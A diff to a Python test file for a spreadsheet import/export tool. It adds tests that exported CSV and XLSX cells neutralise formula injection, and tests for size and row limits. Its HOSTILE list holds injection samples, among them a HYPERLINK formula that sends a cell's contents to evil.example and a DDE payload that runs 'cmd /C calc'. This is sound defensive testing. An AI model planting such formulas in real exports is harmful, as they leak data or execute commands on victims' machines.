@@ -17,6 +17,7 @@ from exchange.demo.dataset import demo_records
 from exchange.spreadsheet import (
     COLUMNS,
     Defaults,
+    Limits,
     RowError,
     derive_record_id,
     normalise_date,
@@ -356,6 +357,43 @@ def test_export_format_reads_back(tmp_path, headers, ext) -> None:
     assert [r.record for r in p.rows] == recs
 
 
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+86 571 0000",
+    "-2+3",
+    "'=already quoted",
+    "''@two quotes",
+    "'plain quote",
+]
+
+
+@pytest.mark.parametrize("ext", ["csv", "xlsx"])
+def test_export_neutralises_formulas_and_reads_back(tmp_path, ext) -> None:
+    base = source_records(len(HOSTILE))[: len(HOSTILE)]
+    recs = [
+        expected({**r, "brand_name": name, "product": name})
+        for r, name in zip(base, HOSTILE, strict=True)
+    ]
+    rows = [record_row(r, status="valid") for r in recs]
+    path = tmp_path / f"export.{ext}"
+    write_sheet(path, rows)
+    if ext == "csv":
+        cells = [c for row in csv.reader(io.StringIO(path.read_text("utf-8-sig"))) for c in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        assert "'=HYPERLINK" in path.read_text("utf-8-sig")
+    else:
+        ws = openpyxl.load_workbook(path).worksheets[0]  # not data_only: formulas would show
+        cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
+        assert cells and all(c.data_type == "s" for c in cells)
+        names = [row[3] for row in ws.iter_rows(min_row=2, values_only=True)]
+        assert names == HOSTILE  # text cells keep the value; no quote is added in XLSX
+    p = plan(path)
+    assert p.errors == []
+    assert [r.record.brand_name for r in p.rows] == HOSTILE
+    assert [r.record for r in p.rows] == recs
+
+
 # ------------------------------------------------------------------ values
 
 
@@ -416,3 +454,42 @@ def test_xlsx_dates_and_numbers_are_text(tmp_path) -> None:
     assert read_sheet(tmp_path / "t.xlsx").rows == [
         (2, ["2026-01-05", "2026-01-05", "330106", "25"])
     ]
+
+
+# ------------------------------------------------------------------ limits
+
+
+def test_limits_name_themselves_and_their_flag(tmp_path) -> None:
+    rows = [as_row(r, "en") for r in source_records(5)]
+    csv_path = write_csv(tmp_path / "list.csv", rows, "utf-8")
+    xlsx_path = tmp_path / "list.xlsx"
+    write_sheet(xlsx_path, rows)
+    for path in (csv_path, xlsx_path):
+        assert len(read_sheet(path, limits=Limits(max_rows=6)).rows) == 6
+        with pytest.raises(FormatError, match=r"more than 5 rows after the header.*--max-rows"):
+            read_sheet(path, limits=Limits(max_rows=5))
+        with pytest.raises(
+            FormatError, match=r"the limit is 0.001 MB \(raise it with --max-file-mb"
+        ):
+            read_sheet(path, limits=Limits(max_file_mb=0.001))
+        with pytest.raises(
+            FormatError,
+            match=r"row 1, column \d+: a cell of \d+ characters; the limit is 5 \(raise it with "
+            r"--max-cell-chars",
+        ):
+            read_sheet(path, limits=Limits(max_cell_chars=5))
+    with pytest.raises(
+        FormatError, match=r"unpacks to 0 MB; the limit is 0.0001 MB.*--max-uncompressed-mb"
+    ):
+        read_sheet(xlsx_path, limits=Limits(max_uncompressed_mb=0.0001))
+
+
+def test_import_cli_has_the_limit_flags(tmp_path) -> None:
+    from click.testing import CliRunner
+
+    from exchange.cli.main import cli
+
+    path = write_csv(tmp_path / "list.csv", [as_row(r, "en") for r in source_records(3)], "utf-8")
+    res = CliRunner().invoke(cli, ["import", str(path), "--max-rows", "2"])
+    assert res.exit_code == 1, res.output
+    assert "more than 2 rows after the header" in res.output and "--max-rows" in res.output
